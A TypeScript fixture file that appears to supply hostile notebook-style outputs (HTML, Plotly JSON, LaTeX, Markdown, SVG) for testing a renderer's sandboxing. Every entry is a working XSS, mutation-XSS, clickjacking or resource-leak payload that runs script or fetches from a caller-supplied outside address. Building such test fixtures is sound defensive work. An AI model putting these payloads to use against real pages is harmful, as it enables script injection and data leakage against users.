/**
 * Outputs that try to run code, to reach an address outside, or to take over the page: MIME type
 * and text.
 */
export function hostile(outside: string): [string, string][] {
  const html = (text: string): [string, string] => ['text/html', text];
  const own = `try { top.pwned = 1; parent.pwned = 1 } catch {} fetch("${outside}/fetch")`;
  return [
    html(`<script>${own}</script><script src="${outside}/script.js"></script>`),
    html(`<img src="${outside}/img.png" onerror='${own}'><img src=x onerror='${own}'>`),
    html(`<svg onload='${own}'><script>${own}</script><image href="${outside}/svg.png"/></svg>`),
    html(`<meta http-equiv="refresh" content="0;url=${outside}/refresh"><p>refreshed</p>`),
    html(
      `<base href="${outside}/"><link rel="stylesheet" href="sheet.css"><link rel="prefetch" href="${outside}/prefetch"><p>linked</p>`,
    ),
    html(
      `<style>@import "${outside}/import.css"; body { background: url("${outside}/background.png") } @font-face { font-family: x; src: url("${outside}/font") } p { font-family: x }</style><p>styled</p>`,
    ),
    html(
      `<a href="javascript:${own.replaceAll('"', '&quot;')}">script link</a> <a href="${outside}/link" target="_top">out</a> <a href="${outside}/blank" target="_blank">window</a> <a href="${outside}/self" ping="${outside}/ping">self</a>`,
    ),
    html(
      `<form action="${outside}/form"><button class="bait">send</button></form><button formaction="${outside}/formaction" onclick='${own}'>go</button>`,
    ),
    html(
      `<iframe src="${outside}/iframe"></iframe><iframe srcdoc="<script>${own.replaceAll('"', '&quot;')}</script>"></iframe><object data="${outside}/object"></object><embed src="${outside}/embed"><p>framed</p>`,
    ),
    html(
      `<video src="${outside}/video" poster="${outside}/poster" autoplay></video><audio src="${outside}/audio" autoplay></audio><p>played</p>`,
    ),
    html(
      `<div style="position:fixed;inset:0;z-index:99999;background:red" onclick='${own}' class="bait">over everything</div>`,
    ),
    html(`</body></html><script>${own}</script><body onload='${own}'>`),
    html(
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${own.replaceAll('"', '&quot;')}'&gt;"></table></mtext></math>`,
    ),
    html(
      `<details open ontoggle='${own}'><summary>s</summary></details><input autofocus onfocus='${own}'><p>focus</p>`,
    ),
    html(
      `<noscript><p title="</noscript><img src=x onerror='${own.replaceAll('"', '&quot;')}'>"></p></noscript><p>none</p>`,
    ),
    [
      'application/vnd.plotly.v1+json',
      JSON.stringify({
        data: [
          {
            type: 'bar',
            y: [1],
            text: [`</script><script>${own}</script><img src=x onerror='${own}'>`],
          },
          { type: 'choropleth', locations: ['FRA'], z: [1], geo: 'geo' },
          { type: 'scattermap', lat: [1], lon: [1] },
        ],
        layout: {
          width: 1e9,
          title: {
            text: `<a href="javascript:${own}">script link</a> <a href="${outside}/figure">out</a>`,
          },
          images: [{ source: `${outside}/figure.png`, x: 0, y: 1, sizex: 1, sizey: 1 }],
          map: { style: `${outside}/style.json` },
          annotations: [
            { text: `<a href="${outside}/annotation" target="_top">up</a>`, x: 0, y: 1 },
          ],
        },
      }),
    ],
    [
      'text/latex',
      `$\\href{javascript:${own}}{x} \\includegraphics{${outside}/formula.png}$ <img src=x onerror='${own}'>`,
    ],
    [
      'text/markdown',
      `[link](javascript:alert(1)) ![picture](${outside}/markdown.png) <script>${own}</script> <img src=x onerror='${own}'>`,
    ],
    [
      'image/svg+xml',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="50" onload='${own.replaceAll('&', '&amp;')}'><script>${own.replaceAll('&', '&amp;')}</script><image xlink:href="${outside}/inside.png" width="9" height="9"/><rect width="50" height="50" fill="green"/></svg>`,
    ],
  ];
}
